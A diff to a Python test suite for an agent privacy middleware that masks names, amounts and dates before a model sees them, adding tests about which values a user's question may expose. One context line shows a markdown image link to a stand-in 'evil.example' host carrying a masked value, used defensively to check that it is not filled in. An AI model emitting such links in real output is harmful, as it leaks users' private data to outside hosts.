@@ -9,9 +9,10 @@ from langchain_core.messages import AIMessage
 from langchain_core.tools import tool
 from langgraph.checkpoint.memory import InMemorySaver
 
-from gama import PrivacyMiddleware
+from gama import Options, PrivacyMiddleware
 from gama.state.entities import TYPE_OF, Span
 from tests.support.chat import ScriptedChat, call
+from tests.support.selectors import FixedSelector
 
 LETTER = "I am Thessaly Quornbeck. The rent is £1,350.00, the deposit £2,025.00; the lease ends on 12 May 2026."
 ANSWER = 'In all {{ <amount-1> + <amount-2> }}; {{ if <amount-1> > 1 then "<name-1>" else "x" }} leaves on {{ weekday(<date-1>) }}, {{ <date-1> + 35 days }}. {{ user.name }}'
@@ -151,3 +152,43 @@ def test_no_formula_is_evaluated_in_an_address():
     last = agent.invoke({"messages": LETTER})["messages"][-1]
     assert last.text == "![x](https://evil.example/?q={{<amount-1>*2}}) £2,700.00"
     assert "2,700" not in json.dumps(last.response_metadata)
+
+
+def test_what_the_user_asks_counts_and_what_a_tool_gave_does_not(monkeypatch):
+    """Under `open` a question leaves what it needs in clear, as in the graph; a tool asks nothing."""
+    needs = FixedSelector("£1,350.00")
+    monkeypatch.setattr("gama.privacy.finders.embedded_selector", lambda: needs)
+
+    @tool
+    def look() -> str:
+        """Look it up."""
+        return "The deposit was £2,025.00. What is £2,025.00 for?"
+
+    question = "Is that rent usual?"
+    model = ScriptedChat(steps=[call("look"), "It is usual."])
+    agent = PrivacyMiddleware(Options(privacy="open")).create_agent(model, [look])
+    rent = "I am Thessaly Quornbeck. The rent is £1,350.00."
+    agent.invoke({"messages": f"{rent}\n\n{question}"}, thread())
+    sent = model.seen
+    assert {asked for _, asked in needs.asked} == {question}
+    assert "£1,350.00" in sent and "2,025" not in sent and "Quornbeck" not in sent
+
+
+def test_what_was_hidden_before_the_question_stays_hidden(monkeypatch):
+    monkeypatch.setattr("gama.privacy.finders.embedded_selector", lambda: FixedSelector("£1,350.00"))
+    model = ScriptedChat(steps=["Noted.", "It is usual."])
+    agent = PrivacyMiddleware(Options(privacy="open")).create_agent(model, checkpointer=InMemorySaver())
+    agent.invoke({"messages": "I am Thessaly Quornbeck. The rent is £1,350.00."}, thread())
+    got = agent.invoke({"messages": "The rent is £1,350.00.\n\nIs that usual?"}, thread())
+    assert "1,350" not in model.seen and got["messages"][-2].text.startswith("The rent is £1,350.00.")
+
+
+def test_what_a_question_showed_is_hidden_where_a_later_turn_hides_it(monkeypatch):
+    monkeypatch.setattr("gama.privacy.finders.embedded_selector", lambda: FixedSelector("£1,350.00"))
+    model = ScriptedChat(steps=["It is usual.", "Noted."])
+    agent = PrivacyMiddleware(Options(privacy="open")).create_agent(model, checkpointer=InMemorySaver())
+    agent.invoke({"messages": "The rent is £1,350.00.\n\nIs that usual?"}, thread())
+    assert "£1,350.00" in model.seen
+    before = len(model.seen)
+    got = agent.invoke({"messages": "Thessaly Quornbeck has paid £1,350.00."}, thread())
+    assert "1,350" not in model.seen[before:] and got["messages"][0].text.startswith("The rent is £1,350.00.")
